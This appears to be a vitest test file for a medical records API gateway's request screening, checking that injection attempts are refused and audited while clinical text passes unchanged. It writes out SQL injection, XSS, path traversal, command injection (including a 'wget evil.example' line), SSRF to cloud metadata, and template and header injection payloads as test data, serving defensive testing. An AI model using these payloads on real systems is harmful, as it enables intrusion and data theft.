import { existsSync, readFileSync } from "node:fs";
import { metricsOf } from "@medvault/service-kit";
import { expect, test } from "vitest";
import { givenGateway, problemOf, type TestGateway } from "../../test/harness.ts";
import { sendRaw } from "../../test/raw-http.ts";

const edge = await givenGateway({ MEDVAULT_LOGIN_RATE: "100000" });
const doctor = await edge.signIn("doctor");
await edge.call("/v1/patients", { as: doctor }); // asks auth for its keys

const ATTACK = "' UNION SELECT password FROM users--";
const MARKUP = "<script>alert(1)</script>";
const ID = "018f4c1e-7a2b-7c3d-8e4f-0123456789ab";

async function expectScreened(path: string, init: Parameters<TestGateway["call"]>[1] = {}): Promise<void> {
  const before = edge.reached();
  const answer = await edge.call(path, init);
  const text = await answer.text();
  expect([answer.status, answer.headers.get("content-type")?.split(";")[0]], path).toEqual([
    400,
    "application/problem+json",
  ]);
  expect(JSON.parse(text), path).toMatchObject({
    code: "request_screened",
    detail: "The request was refused.",
  });
  expect(text, path).not.toMatch(/union|<script|sqli|xss|traversal|command|template|ssrf|protocol|scanner/i);
  expect(edge.reached(), path).toBe(before);
}

test("attacks in path, query names and values, headers and cookies are refused before anyone is asked who sends them", async () => {
  await expectScreened(`/v1/patients/${encodeURIComponent(ATTACK)}`);
  await expectScreened(`/v1/patients/${encodeURIComponent(MARKUP)}`);
  await expectScreened(`/v1/prescriptions?status=${encodeURIComponent(ATTACK)}`);
  await expectScreened(`/v1/prescriptions?${encodeURIComponent(MARKUP)}=1`);
  await expectScreened("/v1/files/..%2f..%2fetc%2fpasswd");
  await expectScreened("/.git/config");
  await expectScreened("/v1/files?attachedTo=..%252f..%252fetc%252fpasswd");
  await expectScreened("/docs", { headers: { referer: `https://x/?q=${MARKUP}` } });
  await expectScreened("/docs", { headers: { "x-anything": ATTACK } });
  await expectScreened("/docs", { headers: { "x-purpose": ATTACK } });
  await expectScreened("/docs", { headers: { "user-agent": MARKUP } });
  await expectScreened("/docs", { headers: { "user-agent": "sqlmap/1.8" } });
  await expectScreened("/docs", { headers: { cookie: `a=b; theme=${ATTACK}` } });
  await expectScreened("/docs", { headers: { "x-forwarded-for": `127.0.0.1, ${MARKUP}` } });
  await expectScreened("/docs", { headers: { cookie: "a=b; $(whoami)=1" } });
  await expectScreened("/docs?q=%24%28whoami%29");
  await expectScreened("/docs?url=http%3A%2F%2F169.254.169.254%2Flatest");
  await expectScreened("/docs?user__password__startswith=a");
  await expectScreened("/docs?user=*%29%28uid%3D*");
  await expectScreened("/v1/patients/%24%7B7*7%7D");
});

test("a path is screened whatever other path with ids was harmless before", async () => {
  // A path with ids is remembered as harmless: what else is in one must not be let in by that.
  for (const id of [ID, "0190000e-3080-7000-8000-000000000000"]) {
    expect((await edge.call(`/v1/patients/${id}`, { as: doctor })).status, id).toBe(200);
    for (const beside of ["..%5c..%5cetc%5cpasswd", encodeURIComponent(ATTACK), encodeURIComponent(MARKUP)]) {
      await expectScreened(`/v1/patients/${id}/${beside}`);
      await expectScreened(`/v1/patients/${id}${beside}`);
      await expectScreened(`/${beside}/${id}`);
    }
  }
});

test("attacks in structured fields are refused, at any depth and in names too", async () => {
  const post = (path: string, body: object) =>
    expectScreened(path, { method: "POST", as: doctor, body: JSON.stringify(body) });
  await post("/v1/patients", { nationalId: "x' or '1'='1" });
  await post(`/v1/patients/${ID}/records`, { type: "note", title: "a", body: "b", code: ATTACK });
  await post("/v1/claims", { diagnosisCode: ATTACK });
  await post("/v1/auth/login", { identifier: "admin'--", password: "x" });
  await post("/v1/patients", { givenName: "Ana", unknown: { deep: [{ deeper: ATTACK }] } });
  await post("/v1/patients", { [MARKUP]: 1 });
  await post("/v1/claims", { diagnosisCode: "; wget evil.example" });
  await post("/v1/claims", { diagnosisCode: "{{constructor}}" });
  await post("/v1/claims", { diagnosisCode: "http://127.0.0.1:9200/" });
  await post("/v1/claims", { diagnosisCode: "x\r\nSet-Cookie: a=b" });
});

test("clinical text, names, reasons and passwords pass to the letter, whatever they look like", async () => {
  const texts = [ATTACK, MARKUP, "../../etc/passwd", "BP <120, O'Brien; DROP TABLE x", "$ne", "{{7*7}}"];
  texts.push(
    "$(whoami); cat /etc/passwd | sh",
    "http://169.254.169.254/",
    "x\r\nSet-Cookie: a=b",
    "*)(uid=*",
  );
  const shared = new URL("../../../../../shared/data/", import.meta.url);
  if (existsSync(shared)) {
    for (const file of ["benign/fhir_strings", "payloads/sqli", "payloads/xss", "payloads/traversal"]) {
      const lines = readFileSync(new URL(`${file}.jsonl`, shared), "utf8")
        .trim()
        .split("\n");
      const step = file.startsWith("benign") ? 1 : 25;
      for (let i = 0; i < lines.length; i += step) {
        const { text, payload } = JSON.parse(lines[i] as string) as { text?: string; payload?: string };
        texts.push(text ?? (payload as string));
      }
    }
  }
  const kept = async (text: string) => {
    for (const [path, fields] of [
      [`/v1/patients/${ID}/records`, { title: text, body: text, type: "note" }],
      ["/v1/prescriptions", { medication: text, dosage: text, frequency: text, notes: text }],
    ] as const) {
      const body = JSON.stringify(fields);
      const answer = await edge.call(path, { method: "POST", as: doctor, body });
      expect(answer.status, body.slice(0, 200)).toBe(200);
      expect(new Set(edge.services.records.seen.slice(-20).map((seen) => seen.body))).toContain(body);
    }
  };
  for (let i = 0; i < texts.length; i += 8) await Promise.all(texts.slice(i, i + 8).map(kept));
  for (const [path, fields] of [
    ["/v1/patients", { givenName: ATTACK, familyName: MARKUP, address: "/etc/passwd" }],
    ["/v1/claims", { diagnosis: ATTACK, treatment: MARKUP }],
    [`/v1/claims/${ID}/reject`, { reason: MARKUP }],
    ["/v1/auth/login", { identifier: "ana", password: ATTACK }],
    ["/v1/auth/password/change", { currentPassword: ATTACK, newPassword: MARKUP }],
  ] as const) {
    const answer = await edge.call(path, { method: "POST", as: doctor, body: JSON.stringify(fields) });
    expect(answer.status, path).toBe(200);
  }
}, 60_000);

test("a page on the internal network may name itself", async () => {
  for (const referer of [
    "http://127.0.0.1:3000/docs",
    "https://localhost/",
    "http://10.0.0.7/patients?id=4&sort=name",
  ])
    expect((await edge.call("/docs", { headers: { referer } })).status, referer).toBe(200);
});

test("words to search for are never refused for how they look", async () => {
  const names = `O'Brien | D'Arcy; drop | Select | SELECT | Union Street | 1=1 ratio | BP <120 | <3
    Cat Stevens | Ruby Bash | Ping Li | Id | May Curl | Perl | Python's | sleep apnea | Mount, Wall
    echo | find | who | top | less | kill | nice | cut | test -ve | Smith & Date | Head; neck`;
  for (const q of [
    ...names.split(/ \| |\n */),
    ATTACK,
    MARKUP,
    "../..",
    "javascript:x()",
    "D'Or 1=1",
    "; whoami",
  ]) {
    for (const [path, words] of [
      ["/v1/patients/search", { q, nationalId: q, phone: q, email: q }],
      ["/v1/prescriptions/search", { q }],
      [`/v1/patients/${ID}/records/search`, { q }],
    ] as const) {
      const body = JSON.stringify(words);
      const answer = await edge.call(path, { method: "POST", as: doctor, body });
      expect(answer.status, q).toBe(200);
      expect(edge.services.records.seen.at(-1)?.body).toBe(body);
      await expectScreened(path, {
        method: "POST",
        as: doctor,
        body: JSON.stringify({ ...words, status: ATTACK }),
      });
    }
    const url = `/v1/directory?${new URLSearchParams({ q })}`;
    expect((await edge.call(url, { as: doctor })).status, q).toBe(200);
    expect(edge.services.auth.seen.at(-1)?.url, q).toBe(url);
    const form = {
      headers: { "content-type": "application/x-www-form-urlencoded" },
      method: "POST",
      as: doctor,
    };
    const body = String(new URLSearchParams({ name: q, family: q, identifier: q }));
    expect((await edge.call("/v1/fhir/Patient/_search", { ...form, body })).status, q).toBe(200);
    expect(edge.services.records.seen.at(-1)?.body, q).toBe(body);
  }
  for (const query of [
    { q: "ada", role: ATTACK },
    { q: "ada", [MARKUP]: "1" },
  ]) {
    await expectScreened(`/v1/directory?${new URLSearchParams(query)}`);
  }
});

test("bundles and uploads pass unread: their services judge them", async () => {
  const body = JSON.stringify({ resourceType: "Bundle", note: ATTACK, __proto_: MARKUP });
  expect((await edge.call("/v1/fhir", { method: "POST", as: doctor, body })).status).toBe(200);
  expect(edge.services.records.seen.at(-1)?.body).toBe(body);
});

test("a body with more structured text than any request needs is refused before it is screened", async () => {
  const send = async (value: unknown) =>
    problemOf(await edge.call("/v1/patients", { method: "POST", as: doctor, body: JSON.stringify(value) }));
  expect(await send({ list: Array.from({ length: 5_000 }, (_, i) => `a${i}`) })).toEqual([
    400,
    "invalid_input",
  ]);
  expect(await send({ long: "a".repeat(100_000) })).toEqual([400, "invalid_input"]);
});

test("a hit is counted, and an event says its kind, its address and how often, and nothing of what was sent", async () => {
  const own = await givenGateway();
  for (let i = 0; i < 3; i++) await own.call(`/docs?q=${encodeURIComponent(`${ATTACK} secret-mark`)}`);
  await own.call("/docs", { headers: { "user-agent": `${MARKUP} secret-mark` } });
  await own.call("/docs?q=%3B%20whoami%20secret-mark");
  await own.call("/docs?q=%24%7Bsecret-mark%7D");
  await own.call("/docs?q=http%3A%2F%2F127.0.0.1%2Fsecret-mark");
  await own.call("/docs?q=%29%28uid%3Dsecret-mark");
  await own.call("/docs", { headers: { "user-agent": "nikto secret-mark" } });
  await own.call("/v1/files/..%2f..%2fsecret-mark");
  await sendRaw(own.url, "GET / HTTP/1.1\r\nHost: x\r\nHost : y\r\n\r\n");
  const metrics = await metricsOf(own.gateway.app).metrics();
  for (const [kind, count] of Object.entries({
    ...{ sqli: 3, xss: 1, traversal: 1, scanner: 1 },
    ...{ command: 1, template: 1, ssrf: 1, protocol: 1 },
  }))
    expect(metrics).toContain(`gateway_screening_hits_total{kind="${kind}"} ${count}`);
  const { raw, events } = await own.audited();
  expect(raw).not.toMatch(/secret-mark|union|script|nikto/i);
  const hits = events.filter(({ type }) => type === "medvault.gateway.screening.hit.v1");
  expect(hits.map(({ data }) => [data.details?.kind, data.details?.count]).sort()).toEqual([
    ["command", 1],
    ["protocol", 1],
    ["scanner", 1],
    ["sqli", 3],
    ["ssrf", 1],
    ["template", 1],
    ["traversal", 1],
    ["xss", 1],
  ]);
  expect(hits[0]).toMatchObject({
    subject: "address/127.0.0.1",
    data: { actor: null, outcome: "denied", decision: { allowed: false }, from: { ip: "127.0.0.1" } },
  });
  expect(events.map(({ type }) => type)).toContain("medvault.gateway.request.request_malformed.v1");
});
